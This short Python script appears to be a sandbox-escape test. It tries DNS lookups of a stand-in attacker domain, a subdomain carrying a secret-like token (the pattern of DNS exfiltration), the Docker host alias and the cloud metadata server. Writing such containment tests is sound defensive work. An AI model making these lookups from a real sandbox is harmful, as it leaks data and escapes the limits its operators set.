"""Asks for names the ordinary way."""
# outside: escapes

import socket

from attempt import attempt


@attempt
def main():
    found = []
    for name in (
        "origin.example.org",
        "evil.example.net",
        "secret-0123456789.evil.example.net",
        "host.docker.internal",
        "metadata.google.internal",
    ):
        try:
            found.append(socket.getaddrinfo(name, 80)[0][4])
        except OSError:
            pass
    return found
